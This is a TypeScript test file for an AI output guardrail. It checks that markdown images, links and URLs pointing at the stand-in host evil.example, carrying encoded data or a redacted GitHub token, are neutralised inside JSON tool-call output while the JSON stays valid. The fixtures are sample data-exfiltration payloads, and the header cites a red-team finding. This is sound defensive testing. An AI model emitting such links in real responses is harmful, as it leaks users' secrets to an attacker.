// The exfiltration stage in a channel whose text is JSON (tool-call arguments, content under a JSON
// response_format): a rewrite keeps the JSON valid — the client's JSON.parse must not fail — and each string value,
// rendered as markdown, reaches nothing outside the allowlist (red team re-check 4, finding 05: the markdown
// escapes `\:` `\.` `\[` the rewrite inserted are invalid JSON escapes). Whole and streamed in 1-, 3- and
// 7-character deltas give the same text.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { compileGuard, STRICT_GUARDRAILS } from './guard.ts';
import { violations } from './markdown-oracle.ts';

const ALLOWED = ['docs.example.com'];
const guard = compileGuard({
  ...STRICT_GUARDRAILS,
  redaction: { detectors: [], customPatterns: [] },
  exfiltration: { mode: 'neutralize', allowedHosts: ALLOWED },
});
const DATA = 'aGVsbG8gd29ybGQgdGhpcyBpcyBh';

function streamed(text: string, n: number): string {
  const s = guard.streamOutput('json');
  let out = '';
  for (let i = 0; i < text.length; i += n) out += s.push(text.slice(i, i + n)).text;
  return out + s.end().text;
}

/** Every string in a parsed JSON value (keys included). */
function strings(v: unknown): string[] {
  if (typeof v === 'string') return [v];
  if (Array.isArray(v)) return v.flatMap(strings);
  if (v !== null && typeof v === 'object') return Object.entries(v).flatMap(([k, x]) => [k, ...strings(x)]);
  return [];
}

// [name, JSON text, the parsed value expected (undefined: only checked to parse and render safely), data removed]
const CASES: [string, string, unknown, boolean][] = [
  [
    'bare URL with a redaction marker (the finding)',
    '{"url":"https://evil.example/c?d=[REDACTED:github-token]"}',
    { url: 'https\\:\\/\\/evil\\.example\\/c\\?d\\=\\[REDACTED\\:github\\-token\\]' },
    false,
  ],
  ['markdown image (the finding)', '{"md":"![x](https://evil.example/p.png?d=abc)"}', { md: '\\[image: x\\]' }, true],
  [
    'link and autolink',
    `{"a":"see [docs](https://evil.example/?d=${DATA}) or <https://evil.example/?d=${DATA}>"}`,
    { a: 'see [docs] \\[link removed\\] or \\[link removed\\]' },
    true,
  ],
  [
    'alt text with a quote and a backslash',
    '{"md":"![a \\"b\\" \\\\ c](https://evil.example/p.png)"}',
    { md: '\\[image: a \\"b\\" \\\\ c\\]' },
    true,
  ],
  [
    'JSON escapes inside the URL (\\/, \\n, \\u0041) stay escapes',
    `{"u":"https://evil.example/c\\/d?e=${DATA}\\u0041\\nnext"}`,
    { u: `https\\:\\/\\/evil\\.example\\/c\\/d\\?e\\=${DATA}A\nnext` },
    false,
  ],
  ['a URL ending at an escaped quote', `{"u":"say https://evil.example/?d=${DATA}\\"quoted\\""}`, undefined, false],
  [
    'a bare URL linkify reads on past its string',
    `{"a":"https://evil.example/c/${DATA}/x?y=1","b":"z","c":1}`,
    undefined,
    false,
  ],
  ['an image split over two strings', '{"a":"![x","b":"](https://evil.example/p.png?d=abc)"}', undefined, true],
  [
    'a bare URL overlapping an image',
    `{"a":"https://evil.example/c?d=${DATA}![x](https://evil.example/p.png?d=abc)"}`,
    undefined,
    false,
  ],
  [
    'pretty-printed, over several lines',
    '{\n  "md": "![x](https://evil.example/p.png?d=abc)",\n  "n": [1, 2]\n}',
    { md: '\\[image: x\\]', n: [1, 2] },
    true,
  ],
  [
    'raw HTML',
    `{"h":"<img src='https://evil.example/p.png?d=abc'>"}`,
    { h: "&lt;img src='https://evil.example/p.png?d=abc'>" },
    false,
  ],
  // left as they are: a plain address outside the allowlist, markdown that links nowhere, allowed hosts
  ['plain address', '{"url":"https://evil.example/c?d=hello"}', { url: 'https://evil.example/c?d=hello' }, false],
  [
    'markdown without links',
    '{"q":"see **bold** and a_b_c and 1. item"}',
    { q: 'see **bold** and a_b_c and 1. item' },
    false,
  ],
  [
    'allowed image',
    '{"md":"![x](https://docs.example.com/p.png?d=abc)"}',
    { md: '![x](https://docs.example.com/p.png?d=abc)' },
    false,
  ],
];

describe('exfiltration in a JSON channel: rewrites keep the JSON valid', () => {
  for (const [name, text, want, removed] of CASES)
    it(name, () => {
      const out = guard.scanOutput(text, 'json').text;
      let parsed: unknown;
      assert.doesNotThrow(() => (parsed = JSON.parse(out)), `not JSON: ${out}`);
      if (want !== undefined) assert.deepEqual(parsed, want);
      for (const s of strings(parsed)) assert.deepEqual(violations(s, ALLOWED), [], s);
      if (removed) assert.ok(!out.includes(DATA) && !out.includes('d=abc'), out);
      for (const n of [1, 3, 7]) assert.equal(streamed(text, n), out, `streamed in ${n}-character deltas`);
    });

  it('markdown channels keep the markdown rewrite', () => {
    assert.equal(guard.scanOutput('![x](https://evil.example/p.png?d=abc)').text, '\\[image: x\\]');
  });
});
